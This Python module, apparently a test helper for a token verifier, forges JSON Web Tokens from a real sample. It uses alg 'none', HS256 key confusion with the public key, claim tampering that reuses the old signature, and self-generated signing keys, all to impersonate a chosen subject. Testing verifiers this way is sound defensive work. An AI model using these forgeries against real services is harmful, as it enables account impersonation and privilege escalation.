"""Forges tokens, from a real one of somebody else's and what everyone may know."""

import base64
import hashlib
import hmac
import json
import time
import uuid
from typing import Any

Json = dict[str, Any]


def encoded(octets: bytes) -> str:
    """Base64url without padding."""
    return base64.urlsafe_b64encode(octets).rstrip(b"=").decode()


def decoded(part: str) -> Any:
    """A JSON part of a compact token."""
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def compact(header: Json, claims: Json) -> str:
    """What a signature is over."""
    return ".".join(encoded(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims))


def forged(way: str, sample: str, sub: str, public_pem: str) -> str:
    """A token that says `sub`, made after a real `sample` of another's: none, hs256, own_key or tampered."""
    header, claims = decoded(sample.split(".")[0]), decoded(sample.split(".")[1]) | {"sub": sub, "username": sub}
    if way == "none":
        return compact(header | {"alg": "none"}, claims) + "."
    if way == "hs256":
        signed = compact(header | {"alg": "HS256"}, claims)
        return f"{signed}.{encoded(hmac.digest(public_pem.encode(), signed.encode(), hashlib.sha256))}"
    if way == "tampered":
        return f"{compact(header, claims)}.{sample.split('.')[2]}"
    return _by_a_key_of_ours(compact(header, claims))


def _by_a_key_of_ours(signed: str) -> str:
    # Imported where needed: most attempts begin faster without it.
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding, rsa

    private_key = rsa.generate_private_key(65537, 2048)
    return f"{signed}.{encoded(private_key.sign(signed.encode(), padding.PKCS1v15(), hashes.SHA256()))}"


def service_token(name: str, scope: str) -> str:
    """A token of an internal service, signed by a key of our own."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    now = int(time.time())
    claims = {"iss": name, "sub": name, "aud": "countersign-metadata", "scope": scope, "iat": now, "exp": now + 60}
    signed = compact({"alg": "EdDSA", "typ": "JWT"}, claims | {"jti": str(uuid.uuid4())})
    return f"{signed}.{encoded(Ed25519PrivateKey.generate().sign(signed.encode()))}"


def presented(token: str | Json | None) -> str | None:
    """The token to show: a real one as it is, or one to be forged by these arguments."""
    if not isinstance(token, dict):
        return token
    return service_token(**token["service"]) if "service" in token else forged(**token)
